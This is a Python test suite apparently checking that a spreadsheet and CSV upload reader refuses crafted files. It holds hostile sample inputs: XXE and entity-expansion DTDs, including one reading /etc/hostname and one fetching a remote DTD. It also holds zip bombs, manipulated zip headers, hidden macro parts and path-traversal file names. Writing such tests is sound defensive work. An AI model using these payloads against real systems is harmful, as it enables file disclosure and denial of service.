"""Files made to harm: each is refused in words, in time, within the limits, whatever it calls itself."""

from __future__ import annotations

import io
import re
import struct
import time
import zipfile
from collections.abc import Callable
from datetime import date

import pytest

from data import workbook_child
from data.checking import check
from data.faults import Unreadable
from data.reading import read_file
from data.register import register
from data.workbook_child import MOST_SHEETS
from data.workbooks import MOST_MEMBERS, MOST_RATIO
from tests.awkward_files import TOWNSHIPS, repacked, text, xls, xlsx

TODAY = date(2021, 9, 30)
ROW = ["653128100", "示例镇"]
GOOD = xlsx(TOWNSHIPS, ROW)
PARTS = [name for name in zipfile.ZipFile(io.BytesIO(GOOD)).namelist() if name.endswith((".xml", ".rels"))]
DTDS = {
    "laughs": '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
    "external": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
    "parameter": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]>',
    "plain": "<!DOCTYPE a>",
}


def refusal(name: str, content: bytes) -> str:
    started = time.perf_counter()
    with pytest.raises(Unreadable) as refused:
        read_file(name, content)
    assert refused.value.words.zh and refused.value.words.en
    assert time.perf_counter() - started < 60
    return refused.value.words.en


def part(name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(GOOD)).read(name)


def with_dtd(name: str, dtd: str, encoding: str) -> bytes:
    xml = part(name).decode("utf-8")
    head, body = xml.split("?>", 1) if xml.startswith("<?xml") else ("<?xml version='1.0'", xml)
    return f"{head.split(' encoding')[0]}?>{dtd}{body}".encode(encoding)


def test_the_workbook_that_all_this_is_done_to_is_read_when_nothing_is_done_to_it() -> None:
    assert check(register("townships"), read_file("a.xlsx", GOOD), today=TODAY).faults == []


@pytest.mark.parametrize("name", PARTS)
def test_a_document_type_in_any_part_is_refused_before_it_is_parsed(name: str) -> None:
    for dtd in DTDS.values():
        assert "DTD" in refusal_here(repacked(GOOD, {name: with_dtd(name, dtd, "utf-8")}))


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
def test_a_document_type_in_another_encoding_is_refused_too(encoding: str) -> None:
    content = repacked(GOOD, {PARTS[-1]: with_dtd(PARTS[-1], DTDS["laughs"], encoding)})
    assert "DTD" in refusal_here(content)


def test_a_document_type_behind_a_long_comment_or_much_blank_is_refused_too() -> None:
    for before in ("<!-- x -->" * 50, " " * 20_000, "<?x y?>"):
        xml = with_dtd("xl/workbook.xml", before + DTDS["external"], "utf-8")
        assert refusal_here(repacked(GOOD, {"xl/workbook.xml": xml}))


def test_what_programs_do_write_before_the_root_is_read() -> None:
    xml = part("xl/workbook.xml").decode()
    for before in ("", "\ufeff", "<?xml version='1.0' encoding='UTF-8' standalone='yes'?>\r\n<!-- WPS -->\n"):
        body = xml.split("?>", 1)[-1]
        changed = repacked(GOOD, {"xl/workbook.xml": (before + body).encode()})
        assert workbook_child.answer("xlsx", changed)[0] == "sheets"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("xl/vbaProject.bin", b"x"),
        ("xl/externalLinks/externalLink1.xml", b"<x/>"),
        ("xl/embeddings/oleObject1.bin", b"x"),
        ("xl/activeX/activeX1.xml", b"<x/>"),
        ("XL\\VBAPROJECT.BIN", b"x"),
    ],
)
def test_macros_links_and_objects_are_refused(name: str, content: bytes) -> None:
    assert "is not read" in refusal("a.xlsx", repacked(GOOD, {name: content}))


@pytest.mark.parametrize("kind", ["vbaProject", "oleObject", "externalLink", "externalLinkPath", "control"])
def test_what_is_active_under_another_name_is_found_by_what_leads_to_it(kind: str) -> None:
    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
        b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/' + kind.encode() + b'"'
        b' Target="harmless.bin"/></Relationships>'
    )
    hidden = repacked(GOOD, {"xl/worksheets/_rels/sheet1.xml.rels": rels, "xl/worksheets/harmless.bin": b"x"})
    assert "is not read" in refusal_here(hidden)
    types = part("[Content_Types].xml").replace(b"spreadsheetml.sheet.main", b"macroEnabled.main")
    assert "is not read" in refusal_here(repacked(GOOD, {"[Content_Types].xml": types}))


def test_a_link_to_a_web_page_is_no_reason_to_refuse_a_file() -> None:
    def linked(_book: object, sheet: object) -> None:
        sheet["B2"].hyperlink = "http://192.0.2.1/"  # type: ignore[index]

    assert workbook_child.answer("xlsx", xlsx(TOWNSHIPS, ROW, change=linked))[0] == "sheets"


def test_a_project_of_macros_in_an_old_workbook_is_refused() -> None:
    plain = xls(TOWNSHIPS, ROW)
    assert read_file("a.xls", plain).sheets
    assert "macros" in refusal("a.xls", plain + "_VBA_PROJECT_CUR".encode("utf-16-le"))


def zipped(write: Callable[[zipfile.ZipFile], object]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(GOOD)) as good, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name in good.namelist():
            made.writestr(name, good.read(name))
        write(made)
    return out.getvalue()


def test_a_part_that_unpacks_to_more_than_a_hundred_times_its_size_is_refused() -> None:
    assert "unpacked" in refusal("a.xlsx", zipped(lambda z: z.writestr("x", b"\0" * (30 << 20))))
    assert MOST_RATIO == 100


def test_a_zip_in_a_zip_is_not_opened() -> None:
    bomb = zipped(lambda z: z.writestr("x", b"\0" * (30 << 20)))
    assert read_file("a.xlsx", zipped(lambda z: z.writestr("xl/inner.zip", bomb))).sheets


def test_more_parts_than_any_workbook_has_are_refused() -> None:
    def many_parts(package: zipfile.ZipFile) -> None:
        for at in range(MOST_MEMBERS):
            package.writestr(f"x{at}", b"")

    many = zipped(many_parts)
    assert "unpacked" in refusal("a.xlsx", many)


def test_a_size_that_is_a_lie_is_the_most_that_is_unpacked() -> None:
    """The list at the end says 100 bytes, the part itself holds 3 MB."""
    sheet = "xl/worksheets/sheet1.xml"
    content = bytearray(repacked(GOOD, {sheet: b"<x>" + b" " * (3 << 20) + b"</x>"}))
    at = content.rfind(sheet.encode()) - 46
    assert content[at : at + 4] == b"PK\1\2"
    content[at + 24 : at + 28] = struct.pack("<I", 100)
    assert "damaged" in refusal("a.xlsx", bytes(content))


def test_parts_that_lie_over_each_other_are_each_counted() -> None:
    """Forty entries of the list point to one part of 15 MB: six hundred once unpacked."""
    content = zipped(lambda z: z.writestr("big", bytes(range(256)) * (15 << 12)))
    end = content.rfind(b"PK\5\6")
    size, start = struct.unpack("<II", content[end + 12 : end + 20])
    entry_at = content.rfind(b"PK\1\2", 0, end)
    entry = content[entry_at:end]
    entries = entry * 40
    listed = content[start:end] + entries
    count = struct.unpack("<H", content[end + 10 : end + 12])[0] + 40
    tail = struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, count, count, len(listed), start, 0)
    assert size
    assert refusal("a.xlsx", content[:start] + listed + tail)


def test_an_encrypted_part_is_called_encrypted() -> None:
    content = bytearray(GOOD)
    at = content.rfind(b"PK\1\2")
    content[at + 8] |= 1
    assert "password" in refusal("a.xlsx", bytes(content))


def test_a_hundred_sheets_are_read_and_one_more_refused() -> None:
    def sheets(number: int) -> bytes:
        return xlsx(TOWNSHIPS, ROW, change=lambda book, _: [book.create_sheet() for _ in range(number - 1)])

    assert workbook_child.answer("xlsx", sheets(MOST_SHEETS))[0] == "sheets"
    assert "sheets" in refusal_here(sheets(MOST_SHEETS + 1))


@pytest.mark.parametrize(
    ("what", "content"),
    [
        ("a program", b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0" * 50),
        ("a PDF with a workbook behind it", b"%PDF-1.7\n" + GOOD),
        ("a picture with a workbook behind it", b"\x89PNG\r\n\x1a\n" + GOOD),
        ("a web page", b"<html><script>alert(1)</script>"),
        ("a workbook of another kind", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000)),
        ("a compressed file", b"\x1f\x8b\x08" + bytes(200)),
    ],
)
def test_what_is_no_table_is_refused_whatever_it_is_called(what: str, content: bytes) -> None:
    for name in ("a.csv", "a.xlsx", "a.xls"):
        assert refusal(name, content), what


@pytest.mark.parametrize(
    "content",
    [b"\n" * (1 << 22), b"," * (1 << 22), b'""\n' * (1 << 21), b"a," * (1 << 21), b'"' + b"\n" * (1 << 20)],
    ids=["lines", "separators", "quotes", "cells", "an open quote"],
)
def test_a_text_of_nothing_but_separators_is_refused_at_once(content: bytes) -> None:
    started = time.process_time()
    assert re.findall(rb'[",\n]', content)
    alone = time.process_time() - started  # each separator looked at once, on this machine
    started = time.process_time()
    refusal("a.csv", content)
    assert time.process_time() - started < 1 + 10 * alone


NAMES = [
    "../../etc/passwd.csv",
    "..\\..\\x.csv",
    "CON.csv",
    "a\0.csv",
    "x" * 300 + ".csv",
    "a\u202evsc.exe.csv",
]


@pytest.mark.parametrize("name", NAMES, ids=ascii)
def test_no_name_of_a_file_is_used_as_a_path(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    def no_file(*_: object, **__: object) -> None:
        raise AssertionError("a file was opened")

    monkeypatch.setattr("builtins.open", no_file)
    monkeypatch.setattr("os.open", no_file)
    assert read_file(name, text(TOWNSHIPS, ROW)).sheets[0].rows


def refusal_here(content: bytes) -> str:
    """The child's answer, given in this process."""
    verdict, words = workbook_child.answer("xlsx", content)
    assert verdict == "refused", words
    return str(words[1])
